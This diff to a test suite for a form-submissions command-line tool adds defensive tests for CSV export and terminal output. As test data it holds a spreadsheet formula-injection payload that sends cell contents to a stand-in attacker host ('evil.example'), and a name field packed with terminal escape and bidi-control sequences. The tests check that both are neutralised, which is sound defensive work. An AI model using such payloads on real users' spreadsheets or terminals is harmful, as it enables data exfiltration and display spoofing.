@@ -78,6 +78,58 @@ test('what came in is listed, newest first, and shown with what followed it', as
   expect((messages ?? []).length + (waiting ?? []).length + (runs ?? []).length).toBeGreaterThanOrEqual(2)
 })
 
+test('what came in is a sheet with a column for each field, which no spreadsheet takes for formulas', async () => {
+  operated.service.clock.advance(1_000)
+  const formula = '=HYPERLINK("https://evil.example?"&A1)'
+  const send = await operated.service.send('/api/forms/signup/submissions', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ _gotcha: '', name: formula, apiKey: 'secret', _utm_source: '@SUM(1)' }),
+  })
+  const { submissionId } = (await send.json()) as { readonly submissionId: string }
+  const { code, stdout, stderr } = await operator(
+    ...['submissions', 'list', '--org', 'acme', '--form', 'signup', '--csv', '--limit', '1'],
+  )
+  expect([code, stderr]).toEqual([0, ''])
+  const [heads, row, ...more] = stdout.trimEnd().split('\r\n')
+  expect(heads).toBe('\uFEFFsubmissionId,submittedAt,formId,contactId,name,email,utm_source')
+  expect(row).toMatch(
+    new RegExp(
+      `^${submissionId},[^,]*,signup,,"'=HYPERLINK\\(""https://evil.example\\?""&A1\\)",,'@SUM\\(1\\)$`,
+    ),
+  )
+  expect(more).toEqual([])
+  for (const [args, said] of [
+    [['--csv', '--json'], 'exclude each other'],
+    [['--csv', '--limit', '0'], '--limit is a whole number'],
+    [['--csv', '--form', 'none'], 'has no form none'],
+  ] as const)
+    expect((await operator('submissions', 'list', '--org', 'acme', ...args)).stderr).toContain(said)
+})
+
+test('answers of strangers do not command the terminal', async () => {
+  const name = '\u001b]0;owned\u0007\u009b2J\u202e\nx'
+  const response = await operated.service.send('/api/forms/signup/submissions', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ _gotcha: '', name, email: 'odd@example.com' }),
+  })
+  const { submissionId } = (await response.json()) as { readonly submissionId: string }
+  const list = ['submissions', 'list', '--org', 'acme']
+  for (const { stdout } of [
+    await operator(...list),
+    await operator(...list, '--json'),
+    await operator(...list, '--csv'),
+    await operated.runOnTerminal(200, ...list),
+    await operator('submissions', 'show', submissionId, '--org', 'acme'),
+  ]) {
+    expect(stdout).toContain('owned')
+    expect(stdout).not.toMatch(/[^\n\r\P{Cc}]|\p{Bidi_Control}/u)
+  }
+  const shown = await operator('submissions', 'show', submissionId, '--org', 'acme')
+  expect(JSON.parse(shown.stdout)).toMatchObject({ answers: { name } })
+})
+
 test('nothing of another organization is listed or shown', async () => {
   const id = await submit('mia')
   expect((await operator('submissions', 'list', '--org', 'other')).stdout).toBe('')
